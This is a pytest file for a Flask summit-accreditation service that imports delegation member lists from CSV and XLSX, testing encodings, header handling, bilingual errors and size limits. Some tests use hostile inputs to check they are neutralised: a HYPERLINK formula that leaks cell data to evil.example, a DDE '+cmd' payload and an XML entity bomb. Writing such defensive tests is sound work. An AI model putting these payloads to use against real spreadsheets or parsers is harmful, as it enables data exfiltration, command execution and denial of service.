"""Reading a delegation's member file (CSV or XLSX) and the templates: every bad input a ministry sends.

The reader is a service (summit.services.accreditation.member_files); these tests give it the bytes a
focal point uploads and look at what it makes of them, in both languages.
"""
from __future__ import annotations

import csv
from contextlib import contextmanager
import io
import tracemalloc
import zipfile

import pytest
from flask import current_app
from flask_babel import force_locale as _force_locale
from openpyxl import Workbook, load_workbook

from summit.services.accreditation import member_files
from summit.services.accreditation.member_files import MemberFileRefused, read_member_file

HEADER = ["given_name", "family_name", "email", "organisation", "country", "category"]
ROW = ["Wei", "Zhang", "zhang.wei@example.org", "Ministry of Transport", "cn", "government"]


@contextmanager
def force_locale(language: str):
    """The messages as a focal point reading ``language`` sees them (Flask-Babel wants a request)."""
    with current_app.test_request_context(), _force_locale(language):
        yield


def texts(errors: dict) -> dict:
    return {where: [str(message) for message in messages] for where, messages in errors.items()}


def csv_bytes(rows, *, delimiter=",", encoding="utf-8", bom=False) -> bytes:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return (b"\xef\xbb\xbf" if bom else b"") + out.getvalue().encode(encoding)


def xlsx_bytes(rows, merge: list[str] = ()) -> bytes:
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    for ref in merge:
        sheet.merge_cells(ref)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def refusal(data: bytes, filename="members.csv", language="en") -> dict:
    with pytest.raises(MemberFileRefused) as caught:
        read_member_file(data, filename)
    with force_locale(language):
        return {where: [str(m) for m in messages] for where, messages in caught.value.errors.items()}


def test_a_plain_csv_gives_typed_registration_bodies(app):
    data = csv_bytes([HEADER + ["route_id", "banquet", "join_waitlist", "title"],
                      ROW + ["3", "是", "no", "H.E."],
                      ["Anna", "Berg", "anna@example.org", "Rail", "se", "Enterprise", "", "yes", "", ""]])
    members = read_member_file(data, "members.csv")
    assert members.encoding == "UTF-8" and members.header_line == 1
    assert [row.line for row in members.rows] == [2, 3]
    assert members.bodies()[0] == {
        "given_name": "Wei", "family_name": "Zhang", "email": "zhang.wei@example.org",
        "organisation": "Ministry of Transport", "country": "CN", "category": "government",
        "route_id": 3, "banquet": True, "join_waitlist": False, "title": "H.E."}
    # blanks are left out (the field's default), labels are codes, country codes upper-cased
    assert members.bodies()[1] == {"given_name": "Anna", "family_name": "Berg", "email": "anna@example.org",
                                   "organisation": "Rail", "country": "SE", "category": "enterprise",
                                   "banquet": True}


def test_a_utf8_bom_and_semicolons_are_read(app):
    data = csv_bytes([HEADER, ["José", "Núñez", "jn@example.es", "Adif; Spain", "ES", "government"]],
                     delimiter=";", bom=True)
    members = read_member_file(data, "miembros.csv")
    assert members.bodies()[0]["given_name"] == "José"  # the BOM is not part of the first header
    assert members.bodies()[0]["organisation"] == "Adif; Spain"


def test_a_tab_separated_utf16_file_from_excel_unicode_text(app):
    text = "\t".join(HEADER) + "\r\n" + "\t".join(ROW) + "\r\n"
    members = read_member_file(b"\xff\xfe" + text.encode("utf-16-le"), "members.txt")
    assert members.encoding == "UTF-16" and members.bodies()[0]["email"] == "zhang.wei@example.org"


@pytest.mark.parametrize("encoding", ["gbk", "gb18030"])
def test_gbk_and_gb18030_from_a_chinese_excel_are_decoded_and_named(app, encoding):
    header = ["名", "姓", "本国文字姓名", "电子邮箱", "单位", "国家或地区", "类别"]
    data = csv_bytes([header, ["Wei", "Zhang", "张伟", "zw@example.cn", "交通运输部", "CN", "政府"]], encoding=encoding)
    members = read_member_file(data, "代表团.csv")
    assert members.encoding == "GB18030"
    assert members.bodies()[0]["native_name"] == "张伟"
    assert members.bodies()[0]["organisation"] == "交通运输部"
    assert members.bodies()[0]["category"] == "government"


def test_a_file_in_no_encoding_we_read_is_refused_naming_the_encodings(app):
    # Latin-1 "é" before a line end is neither UTF-8 nor GB18030
    data = ",".join(HEADER).encode() + b"\r\nRen\xe9\r\n"
    assert "GB18030" in refusal(data)["file"][0] and "UTF-8" in refusal(data)["file"][0]
    assert "UTF-8" in refusal(data, language="zh")["file"][0] and "另存为" in refusal(data, language="zh")["file"][0]


def test_blank_rows_trailing_and_between_are_skipped(app):
    data = csv_bytes([HEADER, ROW, ["", "", "", "", "", ""], [" ", "", "", "", "", ""]]) + b"\r\n\r\n,,,,,\r\n"
    assert [row.line for row in read_member_file(data).rows] == [2]
    sheet = xlsx_bytes([HEADER, ROW, [None] * 6, ["  "], []])
    assert [row.line for row in read_member_file(sheet, "m.xlsx").rows] == [2]


def test_a_quoted_cell_across_lines_counts_lines_as_the_file_does(app):
    data = csv_bytes([HEADER + ["dietary_needs"], ROW + ["no pork\nno alcohol"],
                      ["Anna", "Berg", "bad-email", "Rail", "SE", "enterprise", ""]])
    members = read_member_file(data)
    assert [row.line for row in members.rows] == [2, 4]  # the second record starts on the file's line 4


def test_the_templates_headers_in_both_languages_and_its_notes_row_are_read(app):
    template = member_files.template_csv()
    assert template.startswith(b"\xef\xbb\xbf")
    lines = template.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("title / 称谓,given_name / 名,family_name / 姓")
    filled = template + csv_bytes([["", "Wei", "Zhang", "张伟", "zw@example.cn", "MOT", "", "cn", "government"]])
    members = read_member_file(filled)
    assert [row.line for row in members.rows] == [3]  # line 2 is the notes row
    assert members.bodies()[0]["native_name"] == "张伟"


def test_the_xlsx_template_is_read_back_and_lists_the_codes(app):
    data = member_files.template_xlsx([(7, "R1", "港口", "Port")])
    book = load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    sheet.append(["Dr", "Anna", "Berg", None, "anna@example.org", "Rail", None, "SE", "academia", None, 7, "否"])
    out = io.BytesIO()
    book.save(out)
    members = read_member_file(out.getvalue(), "template.xlsx")
    assert [row.line for row in members.rows] == [3]
    assert members.bodies()[0] == {"title": "Dr", "given_name": "Anna", "family_name": "Berg",
                                   "email": "anna@example.org", "organisation": "Rail", "country": "SE",
                                   "category": "academia", "route_id": 7, "join_waitlist": False}
    codes = [row[0] for row in book.worksheets[1].iter_rows(values_only=True)]
    assert "government" in codes and 7 in codes and "CN" in codes


def test_merged_header_cells_in_an_xlsx(app):
    # a title merged across the sheet above the header, and header cells merged down over two rows
    rows = [["Delegation of Sweden 瑞典代表团"] + [None] * 5,
            ["given_name / 名", "family_name / 姓", "contact", None, "country", "category"],
            [None, None, "email", "organisation", None, None],
            ["Anna", "Berg", "anna@example.org", "Rail", "se", "enterprise"]]
    data = xlsx_bytes(rows, merge=["A1:F1", "A2:A3", "B2:B3", "C2:D2", "E2:E3", "F2:F3"])
    members = read_member_file(data, "sweden.xlsx")
    assert members.header_line == 3
    assert [row.line for row in members.rows] == [4]
    assert members.bodies()[0]["email"] == "anna@example.org" and members.bodies()[0]["country"] == "SE"


def test_a_header_merged_across_two_columns_is_refused_naming_them(app):
    data = xlsx_bytes([["given_name", None, "family_name", "email", "organisation", "country", "category"],
                       ["Anna", "Maria", "Berg", "a@example.org", "Rail", "SE", "enterprise"]], merge=["A1:B1"])
    errors = refusal(data, "m.xlsx")
    assert errors == {"row 1": ["Columns A and B both name “given_name” (merged header cells?)."]}


def test_unknown_and_missing_columns_are_named(app):
    data = csv_bytes([["given_name", "family_name", "e-mail address", "organisation", "country", "consent"], ROW])
    errors = refusal(data)["row 1"]
    assert any("Column C “e-mail address” is not a registration field" in m for m in errors)
    assert any("“consent”" in m for m in errors)
    assert "The required column “email” is missing." in errors
    assert "The required column “category” is missing." in errors
    zh = refusal(data, language="zh")["row 1"]
    assert any("email" in m and "缺少" in m for m in zh)


def test_data_in_a_column_without_a_header_is_refused(app):
    data = csv_bytes([HEADER, ROW + ["stray"]])
    assert refusal(data) == {"row 1": ["Column G holds data but has no header."]}


def test_no_header_at_all(app):
    data = csv_bytes([["a", "b"], ["1", "2"]])
    assert "No header row found" in refusal(data)["file"][0]


@pytest.mark.parametrize("bad, column", [("Wei\u202e", "given_name"), ("Ministry\x00", "organisation"),
                                         ("line\x07bell", "organisation")])
def test_control_nul_and_bidi_characters_are_refused_in_their_row_and_column(app, bad, column):
    row = dict(zip(HEADER, ROW))
    row[column] = bad
    members = read_member_file(csv_bytes([HEADER, list(row.values())]))
    errors = member_files.errors_by_line(members, member_files.merged_errors(members))
    letter = "ABCDEF"[HEADER.index(column)]
    assert list(errors) == ["row 2"]
    with force_locale("en"):
        assert str(errors["row 2"][0]).startswith(f"column {letter} ({column}): Contains")
    with force_locale("zh"):
        assert str(errors["row 2"][0]).startswith(f"{letter} 列（{column}）：")


def test_cells_that_are_not_what_the_api_takes_name_row_and_column(app):
    members = read_member_file(csv_bytes([HEADER + ["route_id", "banquet"], ROW + ["R1", "maybe"]]))
    with force_locale("en"):
        errors = texts(member_files.errors_by_line(members, member_files.merged_errors(members)))
    assert errors == {"row 2": ["column G (route_id): Must be a route id (a whole number) or blank.",
                                "column H (banquet): Must be yes or no (是 or 否)."]}


def test_duplicate_emails_within_the_file_name_the_first_row(app):
    other = ["Li", "Na", "ZHANG.WEI@example.org", "MOT", "CN", "government"]
    members = read_member_file(csv_bytes([HEADER, ROW, other]))
    with force_locale("en"):
        errors = texts(member_files.errors_by_line(members, member_files.merged_errors(members)))
    assert errors == {"row 3": ["column C (email): The same email as row 2."]}


def test_the_readers_errors_win_on_their_field_and_every_error_comes_in_column_order(app):
    members = read_member_file(csv_bytes([HEADER + ["banquet"], ROW + ["maybe"]]))
    service = {0: {"banquet": ["Must be true or false."], "email": ["already registered"]}}
    with force_locale("en"):
        errors = texts(member_files.errors_by_line(members, member_files.merged_errors(members, service)))
    assert errors == {"row 2": ["column C (email): already registered",
                                "column G (banquet): Must be yes or no (是 or 否)."]}


def test_formula_cells_are_read_as_text_never_evaluated(app):
    formula = '=HYPERLINK("http://evil.example/?"&A2,"Ministry")'
    sheet = xlsx_bytes([HEADER, ["Wei", "Zhang", "zw@example.org", formula, "CN", "government"],
                        ["Li", "Na", "ln@example.org", "+cmd|' /C calc'!A0", "CN", "government"],
                        ["Jo", "Ng", "jn@example.org", "@SUM(1+1)", "CN", "government"]])
    members = read_member_file(sheet, "m.xlsx")
    assert [b["organisation"] for b in members.bodies()] == [formula, "+cmd|' /C calc'!A0", "@SUM(1+1)"]
    members = read_member_file(csv_bytes([HEADER, ["Wei", "Zhang", "zw@example.org", "-2+3", "CN", "government"]]))
    assert members.bodies()[0]["organisation"] == "-2+3"


def test_numbers_in_an_xlsx_are_read_as_typed(app):
    sheet = xlsx_bytes([HEADER + ["phone", "route_id", "banquet"],
                        ROW + [8613912345678, 2, True], ["A", "B", "a@example.org", "X", "FR", "media", "", 2.0, 0]])
    bodies = read_member_file(sheet, "m.xlsx").bodies()
    assert (bodies[0]["phone"], bodies[0]["route_id"], bodies[0]["banquet"]) == ("8613912345678", 2, True)
    assert (bodies[1]["route_id"], bodies[1]["banquet"]) == (2, False)


def test_not_a_spreadsheet(app):
    assert "Excel workbook" in refusal(b"PK\x03\x04not really a zip", "m.xlsx")["file"][0]
    assert ".xls" in refusal(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "m.xls")["file"][0]
    assert "empty" in refusal(b"  \r\n", "m.csv")["file"][0]
    assert "no members" in refusal(csv_bytes([HEADER]))["file"][0]


def test_a_file_larger_than_the_cap_is_refused_before_it_is_read(app):
    data = b"x" * (member_files.BYTES_MAX + 1)
    assert "larger than 2 MB" in refusal(data)["file"][0]


def test_an_xlsx_whose_sheet_unpacks_past_the_cap_is_refused(app, monkeypatch):
    monkeypatch.setattr(member_files, "SHEET_BYTES_MAX", 1000)
    data = xlsx_bytes([HEADER] + [ROW] * 50)
    assert "too large once unpacked" in refusal(data, "m.xlsx")["file"][0]


def _big_csv(count: int) -> bytes:
    rows = [HEADER + ["native_name", "job_title"]]
    rows += [[f"Given{n}", f"Family{n}", f"member{n}@example.org", "Ministry of Transport and Communications",
              "CN", "government", "张伟", "Director-General"] for n in range(count)]
    return csv_bytes(rows, bom=True)


def test_a_10000_row_csv_is_read_whole_in_bounded_memory(app):
    """Its speed is measured by bench/member_import.py (--members 10000), not here: a timed test fails
    on a loaded machine and proves nothing on a fast one."""
    data = _big_csv(member_files.ROWS_MAX)
    members = read_member_file(data, "m.csv")
    assert len(members.rows) == member_files.ROWS_MAX and members.rows[-1].line == member_files.ROWS_MAX + 1
    del members
    tracemalloc.start()
    read_member_file(data, "m.csv")
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 80 * 1024 * 1024, peak  # the file's text and the rows' dicts; no copy per row kept


def test_a_10000_row_xlsx_is_read_whole(app):
    data = xlsx_bytes(list(csv.reader(io.StringIO(_big_csv(member_files.ROWS_MAX).decode("utf-8-sig")))))
    members = read_member_file(data, "m.xlsx")
    assert len(members.rows) == member_files.ROWS_MAX and members.rows[-1].line == member_files.ROWS_MAX + 1


def test_one_row_more_than_the_cap_is_refused_as_soon_as_it_is_reached(app, monkeypatch):
    monkeypatch.setattr(member_files, "ROWS_MAX", 100)
    errors = refusal(_big_csv(101))
    assert errors == {"file": ["The file lists more than 100 members."]}
    with force_locale("zh"):
        assert "100" in refusal(_big_csv(101), language="zh")["file"][0]


def test_an_xlsx_whose_shared_strings_unpack_past_the_cap_is_refused(app, monkeypatch):
    monkeypatch.setattr(member_files, "SHEET_BYTES_MAX", 100_000)
    data = xlsx_bytes([HEADER] + [[f"{n}-{'x' * 200}", "B", "c@example.org", "D", "FR", "other"] for n in range(1000)])
    assert "too large once unpacked" in refusal(data, "m.xlsx")["file"][0]


def test_an_xlsx_with_an_entity_bomb_in_its_sheet_is_refused_not_expanded(app):
    book = io.BytesIO(xlsx_bytes([HEADER, ROW]))
    bomb = ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
            '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            '<row r="1"><c r="A1" t="inlineStr"><is><t>&d;</t></is></c></row></sheetData></worksheet>')
    out = io.BytesIO()
    with zipfile.ZipFile(book) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = bomb.encode() if item.filename == "xl/worksheets/sheet1.xml" else source.read(item.filename)
            target.writestr(item, data)
    assert "Excel workbook" in refusal(out.getvalue(), "m.xlsx")["file"][0]
